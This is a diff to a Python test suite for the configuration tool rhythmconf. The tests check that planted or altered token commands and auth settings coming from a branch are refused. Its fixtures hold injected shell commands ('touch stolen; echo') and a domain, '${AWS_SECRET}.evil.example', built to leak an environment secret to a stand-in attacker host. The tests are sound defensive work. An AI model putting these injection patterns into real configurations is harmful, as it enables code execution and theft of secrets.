@@ -28,7 +28,6 @@ from tests.support.process import (
     edit_file,
     make_environ,
     make_project,
-    run,
     run_at_terminal,
     run_in_process,
     run_ok,
@@ -304,7 +303,7 @@ def test_a_variable_allows_it_for_one_run(used: Checkout) -> None:
 
 def test_a_record_that_came_with_the_branch_does_not_count(used: Checkout) -> None:
     """The state folder of these tests is inside the project, where a branch can bring a file along."""
-    (record,) = (used.folder / ".rhythmconf/state/access").iterdir()
+    mark, record = sorted((used.folder / ".rhythmconf/state/access").iterdir(), key=lambda file: file.stat().st_size)
     mine = record.read_text()
     used.edit(f"auth: {used.auth}", f"auth: {PLANTED}")
     with set_environ(make_environ(used.folder, used.env)):
@@ -319,13 +318,16 @@ def test_a_record_that_came_with_the_branch_does_not_count(used: Checkout) -> No
     record.write_text(mine)
     record.chmod(0o644)
     assert_refused(used.run("plan"))
+    for text in ("", "{}", mark.read_text().replace("used", "fused")):
+        mark.write_text(text)
+        assert_refused(used.run("plan"))
     assert not used.stolen
 
 
 def test_the_record_is_private(used: Checkout) -> None:
     for folder in (used.folder / ".rhythmconf/state/access", used.folder / ".rhythmconf/cache/rhythmconf/access"):
         assert stat.S_IMODE(folder.stat().st_mode) == 0o700
-        assert [stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()] == [0o600]
+        assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o600}
 
 
 def test_an_answer_that_cannot_be_remembered_is_an_error(used: Checkout) -> None:
@@ -370,6 +372,47 @@ def test_a_program_is_refused_too(used: Checkout) -> None:
         with pytest.raises(Refused, match="other access settings"):
             rhythmconf.run(rhythmconf.plan(project, project.settings.environment()))
     assert not used.stolen
+
+
+def test_the_first_use_of_a_project_without_a_terminal_needs_no_answer(tmp_path: Path) -> None:
+    """A pipeline starts on a fresh computer: there is nothing to compare with. What differs later is refused."""
+    with serve_emulator(tmp_path) as tenant:
+        command = f'{{token_command: "touch ran; echo {tenant.token}"}}'
+        other = f'{{token_command: "echo {tenant.token}"}}'
+        text = (
+            "version: 1\nproject: hisp\nsources: [config]\ndefault_environment: one\nenvironments:\n"
+            f"  one: {{tenant: {TENANT}, base_url: '{tenant.url}/{{module}}', auth: {command}}}\n"
+            f"  two: {{tenant: other, base_url: '{tenant.url}/{{module}}', auth: {other}}}\n"
+            "  far: {tenant: t, auth: {domain: d.example, client_id: '${NOT_SET_HERE}', client_secret: s}}\n"
+        )
+        folder = make_project(tmp_path / "project", PROGRAMS, text)
+        checkout = Checkout(folder, tenant, Listener("", []))
+        assert checkout.run("plan").code == 0
+        assert (folder / "ran").exists()
+        # The other environments that the file had at the first use are known, and each can be used.
+        assert "RC505" not in checkout.run("plan", "--env", "two").stderr
+        checkout.edit("  far:", f"  new: {{tenant: n, auth: {PLANTED}}}\n  far:")
+        assert_refused(checkout.run("plan", "--env", "new"))
+        checkout.edit("touch ran", "touch stolen")
+        assert_refused(checkout.run("plan"), "touch stolen")
+        checkout.edit("project: hisp", "project: another")
+        assert_refused(checkout.run("plan"), "touch stolen")
+        assert not checkout.stolen
+
+
+def test_a_project_that_was_used_at_a_terminal_is_no_first_use(tmp_path: Path) -> None:
+    with serve_emulator(tmp_path) as tenant:
+        text = PROJECT.format(tenant=TENANT, url=tenant.url).replace(
+            f'{{domain: "{tenant.url}", client_id: c, client_secret: s}}', f'{{token_command: "echo {tenant.token}"}}'
+        )
+        folder = make_project(tmp_path / "project", PROGRAMS, text)
+        checkout = Checkout(folder, tenant, Listener("", []))
+        answered = run_at_terminal(folder, "plan", answer="yes\n", env=checkout.env)
+        assert answered.code == 0, answered
+        assert "were never used on this computer" in answered.stderr
+        checkout.edit("echo", "touch stolen; echo")
+        assert_refused(checkout.run("plan"))
+        assert not checkout.stolen
 
 
 CLIENT = "auth: {domain: hisp.us.auth0.com, client_id: c, client_secret: s}"
@@ -447,7 +490,9 @@ def test_a_variable_in_the_domain_is_shown_as_it_is_written(tmp_path: Path) -> N
     auth = "auth: {domain: '${AWS_SECRET}.evil.example', client_id: c, client_secret: s}"
     text = f"version: 1\nproject: p\nsources: [config]\nenvironments:\n  a: {{tenant: x, {auth}}}\n"
     folder = make_project(tmp_path, {}, text)
-    result = run(folder, "plan", env={"XDG_CACHE_HOME": str(folder / "cache"), "AWS_SECRET": "hush-hush"})
+    (folder / "config").mkdir()
+    env = {"XDG_CACHE_HOME": str(folder / "cache"), "AWS_SECRET": "hush-hush", "NO_COLOR": "1"}
+    result = run_at_terminal(folder, "plan", answer="no\n", env=env)
     assert_refused(result, 'auth.domain: "${AWS_SECRET}.evil.example"')
     assert "hush" not in result.stdout + result.stderr
 
